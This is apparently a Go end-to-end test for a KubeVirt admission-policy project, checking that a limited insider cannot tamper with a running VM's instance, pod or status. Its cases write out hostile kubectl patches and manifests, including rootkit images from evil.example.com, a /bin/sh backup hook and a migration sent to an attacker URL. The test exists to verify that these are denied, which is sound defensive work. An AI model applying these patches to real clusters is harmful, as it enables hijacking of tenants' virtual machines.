package attacks_test

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	rbacv1 "k8s.io/api/rbac/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/vmstencil/stencil/test/gen"
	"github.com/vmstencil/stencil/test/harness"
)

// stored returns an object that must exist.
func stored(t *testing.T, kind, name string) *unstructured.Unstructured {
	t.Helper()
	var u unstructured.Unstructured
	if err := u.UnmarshalJSON([]byte(mustKubectl(t, nil, "", "get", kind, name, "-o", "json").Stdout)); err != nil {
		t.Fatal(err)
	}
	return &u
}

// running creates a VirtualMachine that runs, and returns the name of the pod that virt-controller made for it.
func running(t *testing.T, name string) (pod string) {
	t.Helper()
	mustKubectl(t, mallory, vm(name, "kiosks/kiosk", gen.RunStrategy("Always")), "create", "-f", "-")
	harness.Eventually(t, "virt-controller has made the pod of "+name, func() error {
		pod = strings.TrimSpace(kubectl(t, nil, "", "get", "pod", "-l", "vm.kubevirt.io/name="+name, "-o", "name").Stdout)
		if pod == "" {
			return errors.New("there is none: " + kubectl(t, nil, "", "get", "vm,vmi", "-o", "yaml").Stdout)
		}
		return nil
	})
	return strings.TrimPrefix(pod, "pod/")
}

// TestTheRunningMachineIsTheApprovedOne attacks the objects that KubeVirt creates for an approved VirtualMachine. Mallory has the roles edit and
// kubevirt.io:migrate, and one more that permits to write the status of VirtualMachines and to add containers to pods.
func TestTheRunningMachineIsTheApprovedOne(t *testing.T) {
	space := namespaces.Of(t)
	insider := harness.User(t, stencil.Plane, "insider", gen.Role(space, "edit"), gen.Role(space, "kubevirt.io:migrate"),
		gen.Permits(space, rbacv1.PolicyRule{APIGroups: []string{"kubevirt.io"}, Resources: []string{"virtualmachines/status"}, Verbs: []string{"get", "update", "patch"}}),
		gen.Permits(space, rbacv1.PolicyRule{APIGroups: []string{""}, Resources: []string{"pods/ephemeralcontainers"}, Verbs: []string{"get", "update", "patch"}}))
	pod := running(t, "web")
	merge := func(kind, name, patch string) []string {
		return []string{"patch", kind, name, "--type=merge", "-p", patch}
	}
	const owner = `[{"apiVersion":"v1","kind":"ConfigMap","name":"none","uid":"11111111-2222-3333-4444-555555555555"}]`

	for _, tc := range []struct {
		name, stdin string
		args        []string
		want        string
	}{
		{name: "a container beside the guest", args: merge("vmi", "web", `{"metadata":{"annotations":{"hooks.kubevirt.io/hookSidecars":"[{\"args\":[\"--version\",\"v1alpha2\"],\"image\":\"evil.example.com/rootkit\"}]"}}}`), want: "hooks.kubevirt.io/hookSidecars cannot be changed"},
		{name: "another tenant's network", args: merge("vmi", "web", `{"metadata":{"annotations":{"v1.multus-cni.io/default-network":"other/net"}}}`), want: "v1.multus-cni.io/default-network cannot be changed"},
		{name: "a command for the backup tool", args: merge("vmi", "web", `{"metadata":{"annotations":{"pre.hook.backup.velero.io/command":"[\"/bin/sh\"]"}}}`), want: "pre.hook.backup.velero.io/command cannot be changed"},
		{name: "a label that the pod of a migration gets", args: merge("vmi", "web", `{"metadata":{"labels":{"app":"trusted"}}}`), want: "app cannot be changed"},
		{name: "a false owner of the instance", args: merge("vmi", "web", `{"metadata":{"ownerReferences":`+owner+`}}`), want: "finalizers and ownerReferences"},
		{name: "an instance that cannot be deleted", args: merge("vmi", "web", `{"metadata":{"finalizers":["example.com/a"]}}`), want: "finalizers and ownerReferences"},
		{name: "a false owner of the VM", args: merge("vm", "web", `{"metadata":{"ownerReferences":`+owner+`}}`), want: "finalizers and ownerReferences"},
		{name: "a VM that cannot be deleted", args: merge("vm", "web", `{"metadata":{"finalizers":["example.com/a"]}}`), want: "finalizers and ownerReferences"},
		{name: "the size of another instance type", args: append(merge("vm", "web", `{"status":{"instancetypeRef":{"controllerRevisionRef":{"name":"forged"}}}}`), "--subresource=status"), want: "KubeVirt alone writes the status"},
		{name: "a restart that nobody asked for", args: append(merge("vm", "web", `{"status":{"stateChangeRequests":[{"action":"Stop"}]}}`), "--subresource=status"), want: "KubeVirt alone writes the status"},
		{name: "the image of the pod", args: []string{"set", "image", "pod/" + pod, "compute=evil.example.com/rootkit"}, want: "KubeVirt alone changes the pod"},
		{name: "the domain in the pod's annotations", args: merge("pod", pod, `{"metadata":{"annotations":{"kubevirt.io/domain":"other"}}}`), want: "KubeVirt alone changes the pod"},
		{name: "a network plugged into the pod", args: merge("pod", pod, `{"metadata":{"annotations":{"k8s.v1.cni.cncf.io/networks":"other/net"}}}`), want: "KubeVirt alone changes the pod"},
		{name: "a pod taken from its VM", args: merge("pod", pod, `{"metadata":{"ownerReferences":[]}}`), want: "KubeVirt alone changes the pod"},
		{name: "a debugger in the pod", args: []string{"debug", pod, "--image=evil.example.com/rootkit", "--target=compute"}, want: "KubeVirt alone changes the pod"},
		{name: "a command in the pod", args: []string{"exec", pod, "-c", "compute", "--", "virsh", "list"}, want: "commands cannot be run"},
		{name: "a terminal in the pod", args: []string{"attach", pod, "-c", "compute"}, want: "commands cannot be run"},
		{
			name: "a pod that passes for the VM's", args: []string{"create", "-f", "-"}, want: "KubeVirt alone creates pods",
			stdin: `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"attack","labels":{"kubevirt.io":"virt-launcher"}},"spec":{"containers":[{"name":"compute","image":"evil.example.com/rootkit"}]}}`,
		},
		{
			name: "a migration into an image of one's own", args: []string{"create", "-f", "-"}, want: "kubevirt.io/func-test-migration-target-image-override",
			stdin: "apiVersion: kubevirt.io/v1\nkind: VirtualMachineInstanceMigration\nmetadata: {name: attack, annotations: {kubevirt.io/func-test-migration-target-image-override: evil.example.com/rootkit}}\nspec: {vmiName: web}\n",
		},
		{
			name: "a migration to a node of one's choice", args: []string{"create", "-f", "-"}, want: "addedNodeSelector",
			stdin: "apiVersion: kubevirt.io/v1\nkind: VirtualMachineInstanceMigration\nmetadata: {name: attack}\nspec: {vmiName: web, addedNodeSelector: {kubernetes.io/hostname: node-1}}\n",
		},
		{
			name: "a migration to another cluster", args: []string{"create", "-f", "-"},
			stdin: "apiVersion: kubevirt.io/v1\nkind: VirtualMachineInstanceMigration\nmetadata: {name: attack}\nspec: {vmiName: web, sendTo: {migrationID: a, connectURL: \"https://evil.example.com\"}}\n",
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			before := state(t, pod)
			wantDenied(t, kubectl(t, insider, tc.stdin, tc.args...), "forbidden", tc.want)
			if diff := cmp.Diff(before, state(t, pod)); diff != "" {
				t.Errorf("something changed:\n%s", diff)
			}
		})
	}
	t.Run("a status of the instance", func(t *testing.T) {
		// virt-api restores it before any policy compares it.
		before, _, _ := unstructured.NestedString(stored(t, "vmi", "web").Object, "status", "nodeName")
		kubectl(t, insider, "", merge("vmi", "web", `{"status":{"nodeName":"node-2"}}`)...)
		if got, _, _ := unstructured.NestedString(stored(t, "vmi", "web").Object, "status", "nodeName"); got != before {
			t.Errorf("status.nodeName is %q, was %q", got, before)
		}
	})
	t.Run("what tools for the second day write", func(t *testing.T) {
		for _, args := range [][]string{
			{"label", "vmi", "web", "velero.io/backup-name=nightly"},
			{"annotate", "vmi", "web", "descheduler.alpha.kubernetes.io/evict=true", "prometheus.io/scrape=true"},
			{"label", "vmi", "web", "istio.io/dataplane-mode=ambient"},
			{"annotate", "pod", pod, "descheduler.alpha.kubernetes.io/eviction-in-progress=true"},
		} {
			mustKubectl(t, insider, "", args...)
		}
	})
	t.Run("a VM that is stopped, and its pod and its instance are gone", func(t *testing.T) {
		mustKubectl(t, insider, "", merge("vm", "web", `{"spec":{"runStrategy":"Halted"}}`)...)
		harness.Eventually(t, "the instance is gone", func() error {
			if out := kubectl(t, nil, "", "get", "vmi", "web"); out.Code == 0 {
				return errors.New(out.Stdout)
			}
			return nil
		})
	})
}

// state returns what an attack on a running VM must not change.
func state(t *testing.T, pod string) string {
	t.Helper()
	var of []any
	for _, object := range []*unstructured.Unstructured{stored(t, "vm", "web"), stored(t, "vmi", "web"), stored(t, "pod", pod)} {
		of = append(of, object.GetLabels(), object.GetAnnotations(), object.GetOwnerReferences(), object.GetFinalizers(), object.Object["spec"])
	}
	encoded, err := json.MarshalIndent(of, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	return string(encoded)
}
